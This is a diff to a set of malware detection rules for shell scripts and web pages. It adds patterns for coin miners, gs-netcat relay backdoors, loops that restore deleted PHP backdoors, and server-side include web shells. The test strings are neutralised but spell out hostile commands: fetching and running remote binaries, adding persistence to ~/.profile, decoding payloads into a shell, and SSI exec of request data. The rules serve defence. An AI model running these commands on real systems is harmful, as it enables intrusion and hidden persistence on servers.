@@ -134,6 +134,7 @@ rule fetched_and_run_again {
     must_match = "#!/bin/sh\n# inert\necho 'aW5lcnRpbmVydGluZXJ0aW5lcnQ=' | base64 -d | sh\n"
     must_match = "#!/bin/sh\n# inert\necho PD9waHAgZXhpdDs= | base64 -d > index.php\n"
     must_match = "#!/bin/sh\n# inert\nnohup ./x -o stratum+tcp://inert.example.test:3333 &\n"
+    must_match = "#!/bin/sh\n# inert\n./x -o inert.example.test:3333 -u inert -p x --donate-level 1 -B\n"
     must_not = "#!/bin/sh\ncurl -sS https://example.test/installer | php\n(crontab -l; echo '0 3 * * * /usr/bin/backup') | crontab -\n"
     must_not = "#!/bin/sh\nwget https://example.test/tool.tar.gz && tar xzf tool.tar.gz && chmod +x tool/run\n"
   strings:
@@ -143,8 +144,9 @@ rule fetched_and_run_again {
     $unpacked = /\becho\s{1,3}(-n\s)?["']?[A-Za-z0-9+\/=]{16,4000}["']?\s{0,2}\|\s{0,2}base64\s{1,2}(-d|-D|--decode)\s{0,2}\|\s{0,2}(ba|da|z)?sh\b/
     $planted = /\becho\s{1,3}(-n\s)?["']?PD9[wX][A-Za-z0-9+\/=]{8,4000}["']?\s{0,2}\|\s{0,2}base64\s{1,2}(-d|-D|--decode)\s{0,2}>/
     $digs = "stratum+tcp://"
+    $mines = "--donate-level"
   condition:
-    $shell at 0 and filesize < 128KB and any of ($timer, $bare, $unpacked, $planted, $digs)
+    $shell at 0 and filesize < 128KB and any of ($timer, $bare, $unpacked, $planted, $digs, $mines)
 }
 
 rule encoded_script_run {
@@ -193,4 +195,69 @@ rule other_server_pages {
     $jsp = /getRuntime\s{0,2}\(\s{0,2}\)\s{0,2}\.\s{0,2}exec\s{0,2}\(\s{0,2}request\.getParameter/
   condition:
     $page and any of ($asp*, $jsp)
+}
+
+rule shell_through_a_relay {
+  meta:
+    id = "script/shell-through-a-relay"
+    title = "A script installs a hidden way in through a relay"
+    family = "exec-misc"
+    severity = "critical"
+    confidence = "likely"
+    description = "A shell script fetches gs-netcat, which waits for its owner behind every firewall, and starts it again at each login or by a timer."
+    remedy = "Stop the program, delete the script and what it started; then look at the account's timers, start files and keys."
+    reference = "https://attack.mitre.org/techniques/T1572/"
+    must_match = "#!/bin/bash\n# inert\ncurl -fsSL https://inert.example.test/gs-netcat -o ~/.x/inert; chmod 700 ~/.x/inert\n"
+    must_match = "#!/bin/sh\n# inert\nexport GS_SECRET=inert; ./inert -liqD; echo './inert' >> ~/.profile\n"
+    must_not = "#!/bin/sh\n# gs-netcat is not allowed here\nexit 1\n"
+  strings:
+    $shell = /^#!\s?\/(usr\/)?bin\/(env )?(ba|da|z|k)?sh\b/
+    $relay = "gs-netcat" fullword
+    $secret = /\bGS_(SECRET|ARGS|UNDO|HIDDEN_NAME)\s?=/
+    $stays = /\bchmod\s{1,3}(\+x|[0-7]*7[0-7]*)|\bcrontab\b|>>\s{0,3}["']?(~|\$HOME|\$\{HOME\})\/\.(bashrc|profile|bash_profile|zshrc)|\bnohup\b/
+  condition:
+    $shell at 0 and filesize < 256KB and any of ($relay, $secret) and $stays
+}
+
+rule shell_puts_files_back {
+  meta:
+    id = "script/puts-files-back"
+    title = "A shell script puts removed pages back again and again"
+    family = "exec-misc"
+    severity = "critical"
+    confidence = "likely"
+    description = "A loop that sleeps in between writes PHP into the sites, and makes it unchangeable or as old as its neighbours: whoever deletes a backdoor finds it back."
+    remedy = "Stop the program first, then delete the script and what it wrote; look for the timer that starts it."
+    reference = "https://attack.mitre.org/techniques/T1543/"
+    must_match = "#!/bin/bash\n# inert\nwhile true; do cp /tmp/.inert a/inert.php; chmod 444 a/inert.php; sleep 5; done\n"
+    must_match = "#!/bin/sh\n# inert\nwhile :; do cat .inert > index.php; touch -r wp-login.php index.php; sleep 1; done\n"
+    must_not = "#!/bin/bash\nwhile true; do php artisan queue:work; sleep 5; done\ncp config.sample.php config.php; chmod 640 config.php\n"
+    must_not = "#!/bin/bash\nwhile ! mysqladmin ping; do sleep 1; done\ncp settings.php default/settings.php\nchmod 444 default/settings.php\n"
+  strings:
+    $shell = /^#!\s?\/(usr\/)?bin\/(env )?(ba|da|z|k)?sh\b/
+    $loop = /\bwhile\s{1,3}(true|:|\[\s{0,2}1\s{0,2}\]|\(\(\s?1\s?\)\))/
+    $write = /(\b(cp|cat|echo|printf|base64|mv|install)\b[^\n;]{1,200}\.php\b)/
+    $keep = /\bchattr\s{1,3}\+i\b|\btouch\s{1,3}(-[a-z]{1,3}\s{1,3})?-(r|d|t)\b|\bchmod\s{1,3}0?[45][0-5]{2}\b/
+    $sleep = /\b(sleep|usleep)\s{1,3}[\d$.]/
+  condition:
+    $shell at 0 and filesize < 64KB and for any of ($loop) : ($write in (@loop..@loop + 1500) and $keep in (@loop..@loop + 1500) and $sleep in (@loop..@loop + 1500))
+}
+
+rule page_of_the_server_runs_commands {
+  meta:
+    id = "script/server-side-include-runs"
+    title = "A page lets the web server fetch or run what others say"
+    family = "exec-misc"
+    severity = "critical"
+    confidence = "likely"
+    description = "A server side include gives the shell a part of the request, or has it fetch a file: a web shell without a script."
+    remedy = "Delete the file, then look for who placed it; forbid IncludesExec for the sites."
+    reference = "https://attack.mitre.org/techniques/T1505/003/"
+    must_match = "<!--# inert --><!--#exec cmd=\"$QUERY_STRING_UNESCAPED\" -->"
+    must_match = "<!--# inert --><!--#exec cmd='wget http://192.0.2.1/inert -O inert.php'-->"
+    must_not = "<!--#exec cmd=\"date +%Y\" --><!--#exec cgi=\"/cgi-bin/counter.pl\" -->"
+  strings:
+    $run = /<!--#exec\s{1,4}cmd\s?=\s?["'][^"']{0,200}(\$\{?(HTTP_|QUERY_STRING|PATH_INFO|REQUEST_URI|DOCUMENT_ARGS)|\b(wget|curl|lwp-download|fetch|base64|nc|perl|python\d?|chmod)\s)/ nocase
+  condition:
+    $run and filesize < 1MB
 }
